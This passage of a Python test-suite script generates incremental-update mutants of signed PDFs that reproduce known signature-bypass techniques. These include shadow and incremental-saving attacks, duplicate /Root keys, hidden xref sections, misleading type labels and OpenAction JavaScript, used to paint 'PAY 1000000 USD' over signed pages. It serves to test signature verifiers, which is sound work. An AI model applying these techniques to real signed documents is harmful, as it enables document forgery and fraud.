#!/usr/bin/env python3
"""Incremental-update mutants of a signed PDF, for the attacker test suite (tests/mutation/run.py).

A mutant is the base file's bytes, unchanged, followed by one appended incremental update
(sometimes two). The update is built from a random sequence of 1-3 operations drawn with
`random.Random(seed)` from a small grammar; each operation is a root cause a real attack on PDF
signatures used (shadow attacks, incremental saving attacks, parser differentials):

    rewrite_content         the page's content stream redefined (plain, or with a misleading
                            /Type /Metadata, /ObjStm, /XRef or /Subtype /XML in its dictionary;
                            sometimes written without an xref entry, for readers that rebuild
                            the xref by scanning the file)
    trailer_info_points_at  the update's trailer /Info names an object the update rewrites
    new_root                trailer /Root names a new catalog (new page tree, or JavaScript and an
                            attachment), optionally with a duplicate /Root key in the trailer
    prev_chain              two xref sections in one update; the hidden one redefines the content
    hybrid_xrefstm          a classic table whose /XRefStm stream redefines the content
    objstm_new              the page dictionary rewritten inside a new object stream
    objstm_rewrite          an existing object stream redefined with a changed member
    duplicate_keys          the page redefined with a key given twice (old value and new value)
    generation              the content redefined with generation 1, freed, or re-pointed
    acroform_replace        the catalog's /AcroForm replaced (XFA, NeedAppearances)
    annotation_add          a FreeText or Stamp annotation drawn over the page text
    info_rewrite, metadata_rewrite, touch_same, add_unreferenced   harmless changes
    fill_dangling           an object the signed revision references but does not define, defined
                            (listed in the xref, or only present in the file)
    page_resources          the page's fonts replaced by another standard font

and, on forms and annotations (most need the synthetic 'forms' base, see synthetic_forms):

    form_fill               ordinary filling: a text value with its appearance, a value the
                            viewer draws itself, a radio group switched (displayed by design)
    form_appearance         more than filling: /AP replaced with /V kept, /M touched and the
                            appearance redefined in place, a shared appearance rewritten, /AP
                            naming the page's XObject, a radio kid's /AS alone, /MK colours
    acroform_defaults       the form's /DA, /DR fonts (new or the object redefined),
                            /NeedAppearances
    catalog_add             /OpenAction, /AA, /Names /JavaScript, /Outlines, /PageLabels,
                            /ViewerPreferences, optional content turned off
    annot_existing          a signed FreeText annotation rewritten, its appearance redefined or
                            replaced
    annot_tricks            a new annotation whose /Rect is indirect, has a null corner or
                            indirect corners; printed but not viewed; hidden with JavaScript; a
                            hidden copy of the page's XObject
    annots_new_array        /Annots given to a page that had none (direct, indirect, with an
                            indirect /Rect), or pointed at another page's array
    widget_geometry         a widget moved, a widget added to a radio group's /Kids
    shared_array            a content stream appended to an array that is one page's /Annots and
                            another page's /Contents
    field_add               a field in /Fields on no page, with JavaScript (/A or /AA)
    shared_objects          /Info that is also a resource dictionary, XMP that is also content,
                            rewritten
    oc_xobject              an /OC hiding the page XObject; the layer's OCG edited
    objstm_tricks           the page redefined in an object stream with /Extends; a number listed
                            twice in one xref section (table or stream, either order)

The module reads the base with its own small PDF reader (classic xref tables, xref streams,
object streams) and writes every byte of the update by hand, with correct offsets.

    python3 scripts/pdf_mutants.py BASE.pdf --seed 1 --count 20 --out /tmp/mutants

writes the mutants and `mutants.jsonl` (one JSON record per mutant: file, base, seed, the
operations with their parameters, the update's layout). `build_mutant(base, seed)` is the API.
"""
import argparse
import json
import os
import random
import re
import sys
import zlib

# --------------------------------------------------------------------------------------------
# PDF objects
# --------------------------------------------------------------------------------------------


class Name(bytes):
    """A PDF name, stored without its slash, in its written (escaped) form."""


class Raw(bytes):
    """A literal or hex string (or any token) kept exactly as written, delimiters included."""


class Ref(tuple):
    """An indirect reference `num gen R`."""

    def __new__(cls, num, gen=0):
        return tuple.__new__(cls, (num, gen))

    @property
    def num(self):
        return self[0]

    @property
    def gen(self):
        return self[1]


class PDict:
    """A dictionary as an ordered list of (key, value) pairs: duplicate keys can be written."""

    def __init__(self, pairs=None):
        self.pairs = list(pairs or [])

    def get(self, key, default=None):
        # The first occurrence, as a reader that stops at the first match would see it.
        for k, v in self.pairs:
            if k == key:
                return v
        return default

    def __contains__(self, key):
        return any(k == key for k, _ in self.pairs)

    def set(self, key, value):
        """Replaces every occurrence of `key` by one pair at the first one's place."""
        out, done = [], False
        for k, v in self.pairs:
            if k == key:
                if not done:
                    out.append((k, value))
                    done = True
            else:
                out.append((k, v))
        if not done:
            out.append((Name(key), value))
        self.pairs = out

    def add_duplicate(self, key, value, first=False):
        """Adds a second `key` pair, before (first=True) or after every other pair."""
        if first:
            self.pairs.insert(0, (Name(key), value))
        else:
            self.pairs.append((Name(key), value))

    def remove(self, key):
        self.pairs = [(k, v) for k, v in self.pairs if k != key]

    def copy(self):
        return PDict(self.pairs)


class Stream:
    def __init__(self, d, data):
        self.dict = d
        self.data = data  # raw (encoded) bytes

    def decoded(self):
        return decode_stream(self.dict, self.data)


class Keyword(bytes):
    """A bare keyword (obj, endobj, stream, R, trailer, ...)."""


class PdfError(Exception):
    pass


# --------------------------------------------------------------------------------------------
# Reading
# --------------------------------------------------------------------------------------------

WS = b"\x00\t\n\x0c\r "
DELIM = b"()<>[]{}/%"
REGULAR_END = WS + DELIM


class Lexer:
    """Recursive-descent reader of PDF objects in a byte buffer."""

    def __init__(self, buf, pos=0):
        self.buf = buf
        self.pos = pos

    def skip(self):
        buf, n = self.buf, len(self.buf)
        while self.pos < n:
            c = buf[self.pos]
            if c in WS:
                self.pos += 1
            elif c == 0x25:  # % comment to end of line
                while self.pos < n and buf[self.pos] not in b"\r\n":
                    self.pos += 1
            else:
                break

    def regular(self):
        start = self.pos
        buf, n = self.buf, len(self.buf)
        while self.pos < n and buf[self.pos] not in REGULAR_END:
            self.pos += 1
        return buf[start:self.pos]

    def peek_keyword(self):
        save = self.pos
        self.skip()
        word = self.regular()
        self.pos = save
        return word

    def value(self):
        self.skip()
        buf = self.buf
        if self.pos >= len(buf):
            raise PdfError("unexpected end of data")
        c = buf[self.pos]
        if c == 0x2F:  # /
            self.pos += 1
            return Name(self.regular())
        if c == 0x28:  # (
            return self.literal_string()
        if c == 0x3C:  # <
            if buf[self.pos + 1:self.pos + 2] == b"<":
                return self.dictionary()
            end = buf.index(b">", self.pos)
            raw = Raw(buf[self.pos:end + 1])
            self.pos = end + 1
            return raw
        if c == 0x5B:  # [
            self.pos += 1
            items = []
            while True:
                self.skip()
                if buf[self.pos:self.pos + 1] == b"]":
                    self.pos += 1
                    return items
                items.append(self.value())
        if c in b"+-.0123456789":
            word = self.regular()
            if re.fullmatch(rb"\d+", word):
                # Maybe `num gen R`.
                save = self.pos
                self.skip()
                gen = self.regular()
                if re.fullmatch(rb"\d+", gen):
                    self.skip()
                    if self.regular() == b"R":
                        return Ref(int(word), int(gen))
                self.pos = save
                return int(word)
            try:
                return float(word)
            except ValueError:
                raise PdfError("bad number %r" % word) from None
        word = self.regular()
        if not word:
            raise PdfError("unexpected byte %r at %d" % (bytes([c]), self.pos))
        if word == b"true":
            return True
        if word == b"false":
            return False
        if word == b"null":
            return None
        return Keyword(word)

    def literal_string(self):
        buf, start, depth = self.buf, self.pos, 0
        i = self.pos
        while i < len(buf):
            c = buf[i]
            if c == 0x5C:  # backslash escapes the next byte
                i += 2
                continue
            if c == 0x28:
                depth += 1
            elif c == 0x29:
                depth -= 1
                if depth == 0:
                    self.pos = i + 1
                    return Raw(buf[start:i + 1])
            i += 1
        raise PdfError("unterminated string")

    def dictionary(self):
        self.pos += 2
        d = PDict()
        while True:
            self.skip()
            if self.buf[self.pos:self.pos + 2] == b">>":
                self.pos += 2
                return d
            key = self.value()
            if not isinstance(key, Name):
                raise PdfError("dictionary key is not a name at %d" % self.pos)
            d.pairs.append((key, self.value()))


def png_unpredict(data, columns, colors=1, bpc=8):
    bpp = max(1, colors * bpc // 8)
    row_len = (columns * colors * bpc + 7) // 8
    out, prev = bytearray(), bytearray(row_len)
    for i in range(0, len(data), row_len + 1):
        kind, row = data[i], bytearray(data[i + 1:i + 1 + row_len])
        for j in range(len(row)):
            left = row[j - bpp] if j >= bpp else 0
            up = prev[j]
            if kind == 1:
                row[j] = (row[j] + left) & 0xFF
            elif kind == 2:
                row[j] = (row[j] + up) & 0xFF
            elif kind == 3:
                row[j] = (row[j] + (left + up) // 2) & 0xFF
            elif kind == 4:
                ul = prev[j - bpp] if j >= bpp else 0
                p = left + up - ul
                pa, pb, pc = abs(p - left), abs(p - up), abs(p - ul)
                row[j] = (row[j] + (left if pa <= pb and pa <= pc else up if pb <= pc else ul)) & 0xFF
        out += row
        prev = row
    return bytes(out)


def ascii85_decode(data):
    data = bytes(c for c in data if c not in WS)
    if data.startswith(b"<~"):
        data = data[2:]
    end = data.find(b"~>")
    if end >= 0:
        data = data[:end]
    out, group = bytearray(), []
    for c in data:
        if c == 0x7A and not group:  # z
            out += b"\0\0\0\0"
            continue
        group.append(c - 33)
        if len(group) == 5:
            n = 0
            for g in group:
                n = n * 85 + g
            out += n.to_bytes(4, "big")
            group = []
    if group:
        k = len(group)
        n = 0
        for g in group + [84] * (5 - k):
            n = n * 85 + g
        out += n.to_bytes(4, "big")[:k - 1]
    return bytes(out)


def decode_stream(d, data):
    filters = d.get(b"Filter")
    parms = d.get(b"DecodeParms")
    if filters is None:
        return data
    if not isinstance(filters, list):
        filters, parms = [filters], [parms]
    elif not isinstance(parms, list):
        parms = [parms] * len(filters)
    for f, p in zip(filters, parms):
        if f in (b"FlateDecode", b"Fl"):
            dec = zlib.decompressobj()
            data = dec.decompress(data)
            if isinstance(p, PDict) and (p.get(b"Predictor") or 1) >= 10:
                data = png_unpredict(data, p.get(b"Columns") or 1, p.get(b"Colors") or 1,
                                     p.get(b"BitsPerComponent") or 8)
        elif f in (b"ASCII85Decode", b"A85"):
            data = ascii85_decode(data)
        elif f in (b"ASCIIHexDecode", b"AHx"):
            hexd = bytes(c for c in data.split(b">")[0] if c not in WS)
            data = bytes.fromhex((hexd + b"0" * (len(hexd) % 2)).decode())
        else:
            raise PdfError("unsupported filter %r" % f)
    return data


class XrefEntry:
    __slots__ = ("kind", "a", "b")

    def __init__(self, kind, a, b):
        # kind 'f' (free), 'n' (a=offset, b=gen), 'c' (in object stream a at index b).
        self.kind, self.a, self.b = kind, a, b


class BaseDoc:
    """A parsed PDF: its xref (newest definition of each object), trailer, catalog and pages."""

    def __init__(self, data, name="base.pdf"):
        self.data = data
        self.name = name
        self.xref = {}
        self.sections = []  # (offset, 'table'|'stream') newest first
        self.trailer = None
        self._cache = {}
        self._objstm_cache = {}
        self._read_xref()
        if self.trailer.get(b"Encrypt") is not None:
            raise PdfError("encrypted")
        self.startxref = self._startxref()
        self.uses_xref_stream = self.sections[0][1] == "stream"
        self.root_ref = self.trailer.get(b"Root")
        self.info_ref = self.trailer.get(b"Info")
        self.catalog = self.resolve(self.root_ref)
        self.pages = self._walk_pages()
        if not self.pages:
            raise PdfError("no pages")
        self.page_ref = self.pages[0]
        self.page = self.resolve(self.page_ref)
        self.size = max([self.trailer.get(b"Size") or 0] + [n + 1 for n in self.xref])
        self.objstms = sorted({e.a for e in self.xref.values() if e.kind == "c"})

    # -- xref ---------------------------------------------------------------------------------

    def _startxref(self):
        i = self.data.rfind(b"startxref")
        if i < 0:
            raise PdfError("no startxref")
        lx = Lexer(self.data, i + 9)
        return lx.value()

    def _read_xref(self):
        offset, seen = self._startxref(), set()
        while offset is not None and offset not in seen:
            seen.add(offset)
            lx = Lexer(self.data, offset)
            lx.skip()
            if self.data.startswith(b"xref", lx.pos):
                trailer = self._read_table(lx)
                self.sections.append((offset, "table"))
                stm = trailer.get(b"XRefStm")
                if isinstance(stm, int) and stm not in seen:
                    seen.add(stm)
                    self._read_stream_section(stm)
            else:
                trailer = self._read_stream_section(offset)
                self.sections.append((offset, "stream"))
            if self.trailer is None:
                self.trailer = trailer
            prev = trailer.get(b"Prev")
            offset = prev if isinstance(prev, int) else None

    def _set(self, num, entry):
        # Newest section first: the first definition seen wins.
        if num not in self.xref:
            self.xref[num] = entry

    def _read_table(self, lx):
        lx.pos += 4
        while True:
            lx.skip()
            if self.data.startswith(b"trailer", lx.pos):
                lx.pos += 7
                return lx.value()
            start, count = lx.value(), lx.value()
            for i in range(count):
                lx.skip()
                off = int(lx.regular())
                lx.skip()
                gen = int(lx.regular())
                lx.skip()
                kind = lx.regular()
                self._set(start + i, XrefEntry("n" if kind == b"n" else "f", off, gen))

    def _read_stream_section(self, offset):
        _, _, obj = self._parse_indirect(offset)
        if not isinstance(obj, Stream):
            raise PdfError("no xref at %d" % offset)
        d = obj.dict
        w = d.get(b"W")
        index = d.get(b"Index") or [0, d.get(b"Size")]
        raw = obj.decoded()
        step, pos = sum(w), 0
        for k in range(0, len(index), 2):
            start, count = index[k], index[k + 1]
            for i in range(count):
                rec = raw[pos:pos + step]
                pos += step
                fields, p = [], 0
                for width in w:
                    fields.append(int.from_bytes(rec[p:p + width], "big") if width else None)
                    p += width
                kind = 1 if fields[0] is None else fields[0]
                if kind == 0:
                    entry = XrefEntry("f", fields[1] or 0, fields[2] or 0)
                elif kind == 1:
                    entry = XrefEntry("n", fields[1], fields[2] or 0)
                elif kind == 2:
                    entry = XrefEntry("c", fields[1], fields[2] or 0)
                else:
                    continue
                self._set(start + i, entry)
        return d

    # -- objects ------------------------------------------------------------------------------

    def _parse_indirect(self, offset):
        lx = Lexer(self.data, offset)
        num, gen = lx.value(), lx.value()
        if lx.value() != b"obj":
            raise PdfError("no object at %d" % offset)
        obj = lx.value()
        if isinstance(obj, PDict) and lx.peek_keyword() == b"stream":
            lx.skip()
            lx.pos += 6
            if self.data[lx.pos:lx.pos + 2] == b"\r\n":
                lx.pos += 2
            elif self.data[lx.pos:lx.pos + 1] in (b"\n", b"\r"):
                lx.pos += 1
            length = obj.get(b"Length")
            if isinstance(length, Ref):
                length = self.resolve(length)
            start = lx.pos
            end = start + length if isinstance(length, int) else -1
            if end < 0 or not self.data[end:end + 30].lstrip(WS).startswith(b"endstream"):
                end = self.data.index(b"endstream", start)
                while end > start and self.data[end - 1] in b"\r\n":
                    end -= 1
            obj = Stream(obj, self.data[start:end])
        return num, gen, obj

    def raw_body(self, num):
        """The bytes between `N G obj` and `endobj` of an object stored at top level."""
        e = self.xref.get(num)
        if e is None or e.kind != "n":
            return None
        lx = Lexer(self.data, e.a)
        lx.value(), lx.value(), lx.value()
        end = self.data.index(b"endobj", lx.pos)
        return self.data[lx.pos:end].strip(WS)

    def objstm_members(self, num):
        """[(member number, body bytes)] of object stream `num`, in order."""
        if num not in self._objstm_cache:
            stm = self.resolve(Ref(num))
            data = stm.decoded()
            n, first = stm.dict.get(b"N"), stm.dict.get(b"First")
            lx = Lexer(data)
            heads = [(lx.value(), lx.value()) for _ in range(n)]
            members = []
            for i, (m, off) in enumerate(heads):
                end = heads[i + 1][1] if i + 1 < n else len(data) - first
                members.append((m, data[first + off:first + end].strip(WS)))
            self._objstm_cache[num] = members
        return self._objstm_cache[num]

    def resolve(self, obj):
        if not isinstance(obj, Ref):
            return obj
        num = obj.num
        if num in self._cache:
            return self._cache[num]
        e = self.xref.get(num)
        value = None
        if e is not None and e.kind == "n":
            value = self._parse_indirect(e.a)[2]
        elif e is not None and e.kind == "c":
            for m, body in self.objstm_members(e.a):
                if m == num:
                    value = Lexer(body).value()
                    break
        self._cache[num] = value
        return value

    def body_of(self, num):
        """An object's body as bytes, exactly as stored (re-serialized for object-stream members)."""
        raw = self.raw_body(num)
        if raw is not None:
            return raw
        e = self.xref.get(num)
        if e is not None and e.kind == "c":
            for m, body in self.objstm_members(e.a):
                if m == num:
                    return body
        return None

    # -- document structure -------------------------------------------------------------------

    def _walk_pages(self):
        out, seen = [], set()

        def walk(ref):
            if not isinstance(ref, Ref) or ref.num in seen or len(out) > 10000:
                return
            seen.add(ref.num)
            node = self.resolve(ref)
            if not isinstance(node, PDict):
                return
            if node.get(b"Type") == b"Pages" or b"Kids" in node:
                for kid in self.resolve(node.get(b"Kids")) or []:
                    walk(kid)
            else:
                out.append(ref)

        walk(self.catalog.get(b"Pages"))
        return out

    def inherited(self, page, key):
        node, depth = page, 0
        while isinstance(node, PDict) and depth < 50:
            if key in node:
                return self.resolve(node.get(key))
            node = self.resolve(node.get(b"Parent"))
            depth += 1
        return None

    def page_box(self):
        box = self.inherited(self.page, b"MediaBox") or [0, 0, 612, 792]
        box = [float(self.resolve(v)) for v in box]
        return box

    def content_refs(self):
        """The page's content stream references (a list), or [] when it has none."""
        c = self.page.get(b"Contents")
        if isinstance(c, Ref):
            target = self.resolve(c)
            if isinstance(target, list):
                return [r for r in target if isinstance(r, Ref)]
            return [c]
        if isinstance(c, list):
            return [r for r in c if isinstance(r, Ref)]
        return []

    def page_fonts(self):
        """The page's font resources: (resource name, font dict or None)."""
        res = self.inherited(self.page, b"Resources")
        fonts = self.resolve(res.get(b"Font")) if isinstance(res, PDict) else None
        if not isinstance(fonts, PDict):
            return []
        return [(k, self.resolve(v)) for k, v in fonts.pairs]

    def signature_ends(self):
        """End offsets of every /ByteRange in the file."""
        ends = []
        for m in re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", self.data):
            a, b, c, d = (int(x) for x in m.groups())
            ends.append(c + d)
        return ends

    def last_revision_signed(self):
        """True when the last revision is exactly what a signature covers (up to trailing EOLs)."""
        ends = self.signature_ends()
        if not ends:
            return False
        return max(ends) >= len(self.data.rstrip(b"\r\n\x00 "))

    def dangling(self):
        """{object number: (key path, referring object)} for refs the revision leaves undefined.
        The key path names the keys from the referring object down to the reference, e.g.
        'Resources/XObject/X1'; a reference inside a top-level array (an indirect /Annots array)
        gets the path under which that array is referenced."""
        found, via = {}, {}
        objects = []
        for num, e in sorted(self.xref.items()):
            if e.kind == "f":
                continue
            try:
                objects.append((num, self.resolve(Ref(num))))
            except (PdfError, ValueError, IndexError):
                continue
        objects.append(("trailer", self.trailer))

        def scan(obj, path, owner, record):
            if isinstance(obj, Ref):
                if record:
                    e = self.xref.get(obj.num)
                    if (e is None or e.kind == "f") and obj.num > 0:
                        found.setdefault(obj.num, (path or via.get(owner, ""), owner))
                elif path:
                    via.setdefault(obj.num, path)
            elif isinstance(obj, list):
                for v in obj:
                    scan(v, path, owner, record)
            elif isinstance(obj, PDict):
                for k, v in obj.pairs:
                    scan(v, (path + "/" if path else "") + k.decode("latin-1"), owner, record)
            elif isinstance(obj, Stream):
                scan(obj.dict, path, owner, record)

        for record in (False, True):
            for num, obj in objects:
                scan(obj, "", num, record)
        return found


# --------------------------------------------------------------------------------------------
# Writing
# --------------------------------------------------------------------------------------------


def fmt_num(x):
    if isinstance(x, bool):
        return b"true" if x else b"false"
    if isinstance(x, int):
        return b"%d" % x
    s = ("%.4f" % x).rstrip("0").rstrip(".")
    return s.encode() if s not in ("", "-0") else b"0"


def ser(o):
    """Serializes an object (the Name/Raw/Ref/PDict/list/number model above) to bytes."""
    if o is None:
        return b"null"
    if isinstance(o, (bool, int, float)):
        return fmt_num(o)
    if isinstance(o, Name):
        return b"/" + bytes(o)
    if isinstance(o, Ref):
        return b"%d %d R" % (o.num, o.gen)
    if isinstance(o, (Raw, Keyword)):
        return bytes(o)
    if isinstance(o, list):
        return b"[" + b" ".join(ser(v) for v in o) + b"]"
    if isinstance(o, PDict):
        return b"<< " + b" ".join(b"/" + bytes(k) + b" " + ser(v) for k, v in o.pairs) + b" >>"
    if isinstance(o, Stream):
        d = o.dict.copy()
        d.set(b"Length", len(o.data))
        return ser(d) + b"\nstream\n" + o.data + b"\nendstream"
    if isinstance(o, bytes):
        return o
    raise TypeError(type(o))


def pdf_string(text):
    """A literal string for ASCII text."""
    return Raw(b"(" + text.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(")
               .replace(b")", b"\\)") + b")")


def make_stream(data, extra=None, compress=False):
    d = PDict(extra or [])
    if compress:
        data = zlib.compress(data)
        d.set(b"Filter", Name(b"FlateDecode"))
    return Stream(d, data)


HELVETICA = PDict([(Name(b"Type"), Name(b"Font")), (Name(b"Subtype"), Name(b"Type1")),
                   (Name(b"BaseFont"), Name(b"Helvetica")), (Name(b"Encoding"), Name(b"WinAnsiEncoding"))])

ATTACK_TEXT = "PAY 1000000 USD"


def attack_content(box, font=None, text=ATTACK_TEXT):
    """A page content stream: a grey band and big text near the top of the page."""
    x0, y0, x1, y1 = box
    y = y1 - 140
    ops = [b"q 0.85 g %s %s %s 90 re f Q" % (fmt_num(x0 + 30), fmt_num(y - 25), fmt_num(x1 - x0 - 60)),
           b"q 0 g 6 w %s %s m %s %s l S Q" % (fmt_num(x0 + 40), fmt_num(y - 40), fmt_num(x1 - 40), fmt_num(y - 40))]
    if font is not None:
        ops.append(b"BT /%s 40 Tf 0 g 1 0 0 1 %s %s Tm %s Tj ET" % (bytes(font), fmt_num(x0 + 50), fmt_num(y),
                                                                 pdf_string(text)))
    return b"\n".join(ops) + b"\n"


def appearance_form(width, height, text=ATTACK_TEXT):
    """A form XObject that paints a white box with red text: covers what lies beneath it."""
    content = (b"q 1 g 0 0 %s %s re f Q\nq 0.8 0 0 RG 3 w 2 2 %s %s re S Q\n"
               b"BT /Helv 30 Tf 0.8 0 0 rg 1 0 0 1 12 %s Tm %s Tj ET\n"
               % (fmt_num(width), fmt_num(height), fmt_num(width - 4), fmt_num(height - 4),
                  fmt_num(height / 2 - 10), pdf_string(text)))
    return make_stream(content, [
        (Name(b"Type"), Name(b"XObject")), (Name(b"Subtype"), Name(b"Form")),
        (Name(b"BBox"), [0, 0, width, height]),
        (Name(b"Resources"), PDict([(Name(b"Font"), PDict([(Name(b"Helv"), HELVETICA.copy())]))]))])


class ObjDef:
    """One object the update writes: its body, and whether it belongs to the payload (the
    change an attacker wants displayed) or to the cover (harmless changes, decoys). An object
    not `listed` is written in the update's body but entered in no xref section: only a reader
    that rebuilds the xref by scanning the file (poppler does, when an object it needs is
    missing) finds it."""

    def __init__(self, num, gen, obj, role, listed=True):
        self.num, self.gen, self.obj, self.role, self.listed = num, gen, obj, role, listed


class Section:
    """One cross-reference section of the update and the objects written just before it."""

    def __init__(self, fmt):
        self.fmt = fmt  # 'table' or 'stream'
        self.objs = []  # ObjDef written at top level
        self.objstm = []  # ObjDef members of a new object stream written in this section
        self.free = []  # numbers marked free (generation 1)
        self.repoint = {}  # number -> ('new', number) | ('base', offset): where its entry points


# --------------------------------------------------------------------------------------------
# The mutation context: operations edit it, finalize() writes the update.
# --------------------------------------------------------------------------------------------

# Changes a signer allows (or that change nothing): a verifier that fails them raises a false alarm.
HARMLESS = ("info_rewrite", "metadata_rewrite", "touch_same", "add_unreferenced")
# Changes the signer allows that a viewer shows (ordinary form filling): the report must list them
# as form filling rather than refuse them.
BY_DESIGN = ("form_fill",)


class Skip(Exception):
    """The operation does not apply to this base."""


class Ctx:
    def __init__(self, base, rng):
        self.base = base
        self.rng = rng
        self.next_num = base.size
        self.objs = {}  # num -> ObjDef (top-level objects other than the page and catalog)
        # The page and the catalog are edited in place by several operations and written once.
        self.page = None
        self.page_role = None
        self.page_mode = "plain"  # 'plain' | 'new_objstm' | 'rewrite_objstm'
        self.catalog = None
        self.catalog_num = base.root_ref.num
        self.catalog_role = None
        self.catalog_mode = "plain"
        self.old_root_dup = None  # 'old_first' | 'new_first': duplicate /Root in the trailer
        self.info = "base"  # 'base' | a symbol ('content', 'page', 'catalog') | Ref
        self.content_ref = None  # the content stream the payload defines (for /Info tricks)
        self.free = {}  # num -> role
        self.repoint = {}  # num -> (('new', num) | ('base', offset), role)
        self.layout = "single"
        self.layout_variant = None
        self.split = False
        self.helv_name = None
        self.info_touched = False
        self.form_copy = None  # the working copy of a direct AcroForm (edit_form)
        self.objstm_extends = None  # /Extends of the update's new object stream (objstm_tricks)
        self.index_dup = None  # (num, signed offset, gen, order): a number listed twice in one section
        self.force_fmt = None  # 'table' | 'stream': the update's xref format, when an operation needs one

    def alloc(self):
        n = self.next_num
        self.next_num += 1
        return n

    def put(self, num, obj, role, gen=0, listed=True):
        self.objs[num] = ObjDef(num, gen, obj, role, listed)

    @staticmethod
    def _role(old, new):
        return "payload" if "payload" in (old, new) else new

    def edit_page(self, role):
        if self.page is None:
            self.page = self.base.page.copy()
        self.page_role = self._role(self.page_role, role)
        return self.page

    def edit_catalog(self, role):
        if self.catalog is None:
            self.catalog = self.base.catalog.copy()
        self.catalog_role = self._role(self.catalog_role, role)
        return self.catalog

    def page_resources_with_helv(self):
        """The page's resources as a direct dictionary with Helvetica added under a new name."""
        res = self.base.inherited(self.base.page, b"Resources")
        res = res.copy() if isinstance(res, PDict) else PDict()
        fonts = self.base.resolve(res.get(b"Font"))
        fonts = fonts.copy() if isinstance(fonts, PDict) else PDict()
        self.helv_name = Name(b"FMut")
        fonts.set(b"FMut", HELVETICA.copy())
        res.set(b"Font", fonts)
        return res

    def simple_font_name(self):
        """A font resource of the page that draws single-byte text, if any."""
        fonts = self.base.page_fonts()
        for name, f in fonts:
            if isinstance(f, PDict) and f.get(b"Subtype") in (b"Type1", b"TrueType", b"MMType1"):
                return name
        return fonts[0][0] if fonts else None

    def new_page_content(self, role, compress=False):
        """A new content stream (fresh number) drawing the attack text with Helvetica; sets the
        working page's resources so the font resolves. Returns its reference."""
        page = self.edit_page(role)
        page.set(b"Resources", self.page_resources_with_helv())
        num = self.alloc()
        self.put(num, make_stream(attack_content(self.base.page_box(), self.helv_name), compress=compress), role)
        return Ref(num)

    def ensure_payload(self):
        """Makes sure the update changes what is displayed (for the layout operations)."""
        if any(d.role == "payload" for d in self.objs.values()) or self.page_role == "payload" \
                or self.catalog_role == "payload" or any(r == "payload" for r in self.free.values()):
            return
        op_rewrite_content(self, {"label": "none", "compress": False})

    def decoy(self):
        """A harmless object for a section that would otherwise list nothing (or for the section
        a careless verifier reads): the /Info dictionary re-saved identically, or a new object
        nothing refers to."""
        info = self.base.info_ref
        if self.layout_variant == "touch_info" and not self.info_touched and isinstance(info, Ref) \
                and self.base.raw_body(info.num) is not None and info.num not in self.objs:
            self.info_touched = True  # once: the same object twice in one update is its own signal
            return ObjDef(info.num, info.gen, Raw(self.base.raw_body(info.num)), "cover")
        return ObjDef(self.alloc(), 0, PDict([(Name(b"Note"), pdf_string("harmless"))]), "cover")


# --------------------------------------------------------------------------------------------
# Operations. Each takes (ctx, params) and edits ctx; choose_params(ctx) draws the parameters.
# --------------------------------------------------------------------------------------------


# Misleading type labels: a verifier that classifies objects by /Type or /Subtype may take the
# payload for metadata or for the file's own structure. /Subtype /XML only suits content
# streams (annotations and form XObjects need their own /Subtype).
LABELS = {"none": [], "Metadata": [(Name(b"Type"), Name(b"Metadata"))],
          "ObjStm": [(Name(b"Type"), Name(b"ObjStm"))], "XRef": [(Name(b"Type"), Name(b"XRef"))],
          "XML": [(Name(b"Subtype"), Name(b"XML"))]}
TYPE_LABELS = ["none", "none", "Metadata", "ObjStm", "XRef"]


def relabel(obj, label):
    """Puts a misleading label into a new object's dictionary (in place); returns obj."""
    d = obj.dict if isinstance(obj, Stream) else obj
    for k, v in LABELS[label]:
        d.set(k, v)
    return obj


def op_rewrite_content(ctx, p):
    refs = ctx.base.content_refs()
    if not refs:
        raise Skip("the page has no content stream")
    label = LABELS[p["label"]]
    font = ctx.simple_font_name()
    data = attack_content(ctx.base.page_box(), font)
    listed = p.get("listed", True)
    ctx.put(refs[0].num, make_stream(data, label, p.get("compress")), "payload", refs[0].gen, listed)
    for r in refs[1:]:  # the rest of a content array goes empty: only the new text shows
        ctx.put(r.num, make_stream(b"", label), "payload", r.gen, listed)
    ctx.content_ref = refs[0]


def op_trailer_info_points_at(ctx, p):
    target = p["target"]
    if target == "content":
        if ctx.content_ref is None:
            op_rewrite_content(ctx, {"label": "none"})
    elif target == "page":
        if ctx.page_role != "payload":
            ctx.edit_page("payload").set(b"Contents", ctx.new_page_content("payload"))
    elif target == "catalog":
        if ctx.catalog_role != "payload":
            add_javascript(ctx, ctx.edit_catalog("payload"))
    ctx.info = target


def add_javascript(ctx, catalog):
    catalog.set(b"OpenAction", PDict([(Name(b"S"), Name(b"JavaScript")),
                                      (Name(b"JS"), pdf_string("app.alert('Signed document replaced');"))]))


def add_attachment(ctx, catalog, role):
    ef = ctx.alloc()
    ctx.put(ef, make_stream(ATTACK_TEXT.encode() + b"\n", [(Name(b"Type"), Name(b"EmbeddedFile"))]), role)
    fs = ctx.alloc()
    ctx.put(fs, PDict([(Name(b"Type"), Name(b"Filespec")), (Name(b"F"), pdf_string("invoice.txt")),
                       (Name(b"UF"), pdf_string("invoice.txt")),
                       (Name(b"EF"), PDict([(Name(b"F"), Ref(ef))]))]), role)
    names = ctx.base.resolve(catalog.get(b"Names"))
    names = names.copy() if isinstance(names, PDict) else PDict()
    names.set(b"EmbeddedFiles", PDict([(Name(b"Names"), [pdf_string("invoice.txt"), Ref(fs)])]))
    names.set(b"JavaScript", PDict([(Name(b"Names"), [pdf_string("init"), PDict([
        (Name(b"S"), Name(b"JavaScript")), (Name(b"JS"), pdf_string("app.alert('hello');"))])])]))
    catalog.set(b"Names", names)


def op_new_root(ctx, p):
    cat = ctx.edit_catalog("payload")
    if p["variant"] == "new_tree":
        box = ctx.base.page_box()
        pages, page, content = ctx.alloc(), ctx.alloc(), ctx.alloc()
        ctx.put(content, make_stream(attack_content(box, Name(b"Helv"))), "payload")
        resources = PDict([(Name(b"Font"), PDict([(Name(b"Helv"), HELVETICA.copy())]))])
        ctx.put(page, PDict([(Name(b"Type"), Name(b"Page")), (Name(b"Parent"), Ref(pages)),
                             (Name(b"MediaBox"), box), (Name(b"Contents"), Ref(content)),
                             (Name(b"Resources"), resources)]), "payload")
        ctx.put(pages, PDict([(Name(b"Type"), Name(b"Pages")), (Name(b"Kids"), [Ref(page)]), (Name(b"Count"), 1)]),
                "payload")
        cat.set(b"Pages", Ref(pages))
    else:  # the old page tree, plus JavaScript run on open and an attachment
        add_javascript(ctx, cat)
        add_attachment(ctx, cat, "payload")
    ctx.catalog_num = ctx.alloc()
    ctx.old_root_dup = None if p["dup"] == "none" else p["dup"]


